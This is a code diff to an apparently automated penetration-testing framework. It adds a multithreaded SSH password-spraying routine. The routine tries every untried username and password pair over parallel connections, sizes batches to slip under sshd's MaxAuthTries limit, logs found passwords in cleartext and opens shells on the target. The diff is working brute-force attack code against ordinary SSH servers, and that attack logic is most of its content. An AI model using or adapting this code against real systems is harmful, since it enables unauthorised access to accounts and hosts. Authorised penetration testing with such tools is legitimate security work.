@@ -1,4 +1,4 @@
-from typing import Tuple, Dict
+from typing import Tuple, Dict, List, Set, Hashable
 
 from pinaht.knowledge.types.port import Port
 from pinaht.modules.module import Module
@@ -17,15 +17,28 @@ from pinaht.knowledge.types.privilege import Privilege
 from pinaht.knowledge.types.knowledge import Knowledge
 from pinaht.knowledge.manager import BufferedModuleManager
 from pinaht.knowledge.types.secureshell import SecureShell
+from pinaht.knowledge.types.ssh_pool import ssh_pool
 from paramiko import AuthenticationException, SSHException
+from concurrent.futures import ThreadPoolExecutor, as_completed
+from itertools import islice
 import ipaddress
 import socket
+import threading
+
+WORKERS = 8
+# the number of passwords, that are tried on one connection. sshd closes it after MaxAuthTries (6) failures.
+PASSWORDS_PER_CONNECTION = 5
 
 
 class SSHToShell(Module):
-    def __init__(self, manager, **kwargs):
+    def __init__(self, manager, workers: int = WORKERS, **kwargs):
+        """
+        :param workers: the number of connections, that try credentials at the same time
+        """
         super(SSHToShell, self).__init__(manager, **kwargs)
 
+        self.workers = workers
+
         self.estimated_time = 5
         self.success_chance = 0.01
 
@@ -48,12 +61,103 @@ class SSHToShell(Module):
             password = keyed_knowledge["password"]
             self._logger.info("Excecuting SSH with Password.")
         elif meta_key == "credentials_ssh":
-            password = keyed_knowledge["password"]
-            self._logger.info("Excecuting SSH on user " + user_name + " with password '" + str(password) + "'.")
+            self.spray(buffered_module_manager, meta_key, keyed_knowledge, ip, port)
+            return
         else:
             self._logger.error("Wrong meta Key. recon_local-service Module not implemented properly.")
             return
 
+        self.add_shell(buffered_module_manager, target, user_name, str(password), ip, port)
+
+    def resources(self, meta_key: str, keyed_knowledge: Dict[str, Knowledge]) -> Set[Hashable]:
+        """
+        a spray tries all untried pairs of the credentials, so only one spray per credentials runs at a time. the
+        next one starts after the pairs of the previous one are merged as executed and only tries the new ones.
+        """
+        if meta_key == "credentials_ssh":
+            return {("credentials_ssh", id(keyed_knowledge["credentials"]))}
+        return set()
+
+    def spray(
+        self,
+        buffered_module_manager: BufferedModuleManager,
+        meta_key: str,
+        keyed_knowledge: Dict[str, Knowledge],
+        ip: str,
+        port: int,
+    ):
+        """
+        tries every untried pair of a user and a password of the credentials at once, instead of one pair per
+        execution. up to workers connections try the passwords of a user at the same time, until one is valid.
+        the tried pairs are marked as executed.
+        """
+
+        credentials = keyed_knowledge["credentials"]
+
+        # maps the names and passwords to the groupings of their untried pairs. the strategy has already marked the
+        # pair of the keyed knowledge as executed, it is tried nevertheless
+        groupings: Dict[str, Dict[str, List[Dict[str, Knowledge]]]] = {}
+        for name in credentials.users:
+            for password in credentials.passwords:
+                grouping = dict(keyed_knowledge, name=name, password=password)
+                chosen = name is keyed_knowledge["name"] and password is keyed_knowledge["password"]
+                if chosen or not self.dependency.has_been_executed(meta_key, grouping):
+                    groupings.setdefault(str(name), {}).setdefault(str(password), []).append(grouping)
+
+        if not groupings:
+            return
+
+        self._logger.info(
+            f"Excecuting SSH on {len(groupings)} users with {len(credentials.passwords)} passwords "
+            f"and {self.workers} workers."
+        )
+
+        found: Dict[str, str] = {}
+        stop = {user_name: threading.Event() for user_name in groupings}
+        with ThreadPoolExecutor(max_workers=self.workers) as executor:
+            futures = {}
+            for user_name, passwords in groupings.items():
+                passwords = iter(passwords)
+                for chunk in iter(lambda: list(islice(passwords, PASSWORDS_PER_CONNECTION)), []):
+                    future = executor.submit(ssh_pool.authenticate, ip, port, user_name, chunk, stop[user_name])
+                    futures[future] = (user_name, chunk)
+
+            for future in as_completed(futures):
+                user_name, chunk = futures[future]
+                try:
+                    password = future.result()
+                except (SSHException, EOFError, socket.error):
+                    self._logger.debug(
+                        f"Failed to connect for user {user_name}, the passwords are tried again later."
+                    )
+                    continue
+
+                if password is not None:
+                    stop[user_name].set()
+                    found[user_name] = password
+
+                # the remaining passwords of a found user are not tried anymore
+                for password in chunk:
+                    for grouping in groupings[user_name][password]:
+                        buffered_module_manager.add_executed(self.dependency, meta_key, grouping)
+
+        for user_name, password in found.items():
+            self._logger.info("Found the password '" + password + "' of user " + user_name + ".")
+            self.add_shell(buffered_module_manager, keyed_knowledge["target"], user_name, password, ip, port)
+
+    def add_shell(
+        self,
+        buffered_module_manager: BufferedModuleManager,
+        target: Target,
+        user_name: str,
+        password: str,
+        ip: str,
+        port: int,
+    ):
+        """
+        invokes a SSH-Shell and adds it to the target
+        """
+
         try:
             shell = SecureShell(user_name, password, ip, port)
         except (AuthenticationException, SSHException, socket.error):